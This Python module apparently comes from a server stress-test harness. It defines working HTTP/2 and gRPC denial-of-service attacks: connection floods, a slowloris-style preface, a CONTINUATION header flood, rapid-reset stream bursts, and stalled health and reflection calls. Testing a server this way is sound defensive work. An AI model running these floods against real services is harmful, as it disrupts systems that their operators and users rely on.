"""Attacks on the gRPC port below its messages: connections, frames, calls that are opened and reset."""

import time

import http2
import messages
from target import send_all


def _flood_and_close(target, sources):
    connections = target.connect_many(target.grpc, sources)
    yield
    time.sleep(2)
    for connection in connections:
        connection.close()


def connect_flood(target):
    """1,100 TCP connections that say nothing, closed after two seconds."""
    yield from _flood_and_close(target, 1)


def connect_flood_apart(target):
    """The same from 50 addresses."""
    yield from _flood_and_close(target, 50)


def dribbled_handshakes(target):
    """HTTP/2's preface, byte by byte, on 100 connections."""
    connections = [target.connect(target.grpc) for _ in range(100)]
    yield
    for byte in http2.PREFACE:
        for connection in connections:
            send_all(connection, bytes([byte]))
        time.sleep(0.5)


def _flood_frames(target, begin, more):
    """On one connection whose answers are not read, until the server ends it."""
    connection = target.connect(target.grpc)
    connection.settimeout(2)
    send_all(connection, http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0) + begin)
    yield
    while send_all(connection, more):
        pass
    connection.close()


def endless_headers(target):
    """Headers of one call, 4 KiB each, without end."""
    begin = http2.frame(http2.HEADERS, 0, 1, http2.call_headers(messages.GENERATE))
    yield from _flood_frames(target, begin, http2.frame(http2.CONTINUATION, 0, 1, http2.header("x-a", "y" * 120) * 120) * 8)


def unknown_frames(target):
    """Frames of a type that there is not."""
    yield from _flood_frames(target, b"", http2.frame(0x42, 0, 0, b"x" * 16000) * 8)


def _reset_calls(target, path):
    connection = target.connect(target.grpc)
    send_all(connection, http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0))
    yield
    headers = http2.call_headers(path, remember=True)
    stream = 1
    while True:
        burst = b""
        for _ in range(100):
            burst += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
            burst += http2.frame(http2.DATA, http2.END_STREAM, stream, b"\0\0\0\0\0")
            burst += http2.frame(http2.RST_STREAM, 0, stream, http2.CANCEL)
            headers = http2.remembered_call_headers()
            stream += 2
        try:
            connection.settimeout(2)
            connection.sendall(burst)
            connection.settimeout(0.001)
            if not connection.recv(1 << 20):
                break
        except TimeoutError:
            continue
        except OSError:
            break
    connection.close()


def reset_calls(target):
    """Calls that are reset as soon as they are opened."""
    yield from _reset_calls(target, messages.STREAM_GENERATE)


# Services that gRPC knows, too.


def reset_health_checks(target):
    """The same of the health service."""
    yield from _reset_calls(target, messages.CHECK_HEALTH)


def reset_reflection(target):
    """The same of reflection."""
    yield from _reset_calls(target, messages.REFLECT)


def _open_calls(target, path):
    connections = [http2.Connection(target.grpc) for _ in range(32)]
    for connection in connections:
        for _ in range(256):
            connection.open(path)
    yield
    time.sleep(5)


def health_watches(target):
    """256 watches of the server's health on each of 32 connections, whose answers are not read."""
    connections = []
    for _ in range(32):
        connection = http2.Connection(target.grpc, answer_window=0)
        connections.append(connection)
        for _ in range(256):
            connection.call(messages.WATCH_HEALTH, b"")
    yield
    time.sleep(5)


def open_health_checks(target):
    """256 calls of the health service on each of 32 connections whose message never comes."""
    yield from _open_calls(target, messages.CHECK_HEALTH)


def half_health_checks(target):
    """48 of 63 MiB of a message to the health service on 16 streams of four connections, then silence."""
    connections = [http2.Connection(target.grpc) for _ in range(4)]
    for connection in connections:
        for _ in range(4):
            connection.send_message_part(connection.open(messages.CHECK_HEALTH), 63 << 20, 48 << 20, patience=0.5)
    yield
    time.sleep(5)


def open_reflections(target):
    """256 calls of reflection on each of 32 connections that ask nothing."""
    yield from _open_calls(target, messages.REFLECT)


ATTACKS = (
    dribbled_handshakes,
    endless_headers,
    unknown_frames,
    reset_calls,
    reset_health_checks,
    reset_reflection,
    health_watches,
    open_health_checks,
    half_health_checks,
    open_reflections,
    connect_flood,
    connect_flood_apart,
)
